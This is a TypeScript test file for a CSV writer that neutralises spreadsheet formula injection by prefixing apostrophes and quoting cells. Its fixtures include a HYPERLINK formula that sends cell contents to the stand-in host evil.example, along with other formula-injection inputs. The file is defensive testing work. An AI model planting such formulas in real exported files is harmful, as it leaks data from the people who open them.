import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, restoreCell, writeCsv } from "./csv";

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+44 20 7946 0000",
  "-M-",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

describe("a CSV cell", () => {
  it("starts with an apostrophe when a spreadsheet would read it as a formula", () => {
    for (const text of hostile) expect(neutraliseCell(text), text).toBe(`'${text}`);
  });

  it("is left alone otherwise, an apostrophe of its own included", () => {
    for (const text of ["Café", "", "Blue Train", "12.99", "'Round Midnight", "a=b", " =1"])
      expect(neutraliseCell(text), text).toBe(text);
  });

  it("is left alone when it is only a number, a negative one included: a spreadsheet reads it as that number", () => {
    for (const text of ["-1", "-2.50", "0", "-0.5"]) expect(neutraliseCell(text), text).toBe(text);
    for (const text of ["-1+1", "-1e3", "+1", "-", "-.5", "-1.", "--1"]) expect(neutraliseCell(text), text).toBe(`'${text}`);
  });

  it("keeps its own apostrophes before a formula character, so reading it back gives it exactly", () => {
    expect(neutraliseCell("'=1+1")).toBe("''=1+1");
    expect(neutraliseCell("''-M-")).toBe("'''-M-");
    expect(neutraliseCell("'-1")).toBe("''-1");
  });

  it("reads back as written: only the apostrophe the writer added is taken off", () => {
    for (const text of [...hostile, "Café", "", "'Round Midnight", "'=1+1", "''-M-", "'", "''", "12.99", "-1", "'-1"])
      expect(restoreCell(neutraliseCell(text)), JSON.stringify(text)).toBe(text);
    expect(restoreCell("'Round Midnight")).toBe("'Round Midnight");
    expect(restoreCell("'=1+1")).toBe("=1+1");
    // The writer never puts an apostrophe before a plain number, so one found there is the file's own.
    expect(restoreCell("'-1")).toBe("'-1");
  });
});

describe("the CSV writer", () => {
  it("neutralises every text cell, header included, and writes the shop's own numbers as they are", () => {
    const csv = writeCsv([
      ["=title", "count", "money"],
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', -5, "-2.50"],
      ["-M-", 12.5, "3.00"],
      [null, undefined, ""],
    ]);
    expect(parse(csv)).toEqual([
      ["'=title", "count", "money"],
      ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-5", "-2.50"],
      ["'-M-", "12.5", "3.00"],
      ["", "", ""],
    ]);
  });

  it("quotes separators, quotes and line breaks, so no cell can start another", () => {
    const csv = writeCsv([["a,=b", 'say "hi"', "two\r\nlines"]]);
    expect(csv).toBe('"a,=b","say ""hi""","two\r\nlines"\n');
  });

  it("writes a byte order mark and Windows line ends for spreadsheet programs when asked", () => {
    expect(writeCsv([["a"], ["b"]], { forSpreadsheets: true })).toBe("\uFEFFa\r\nb\r\n");
    expect(writeCsv([["a"], ["b"]])).toBe("a\nb\n");
  });
});
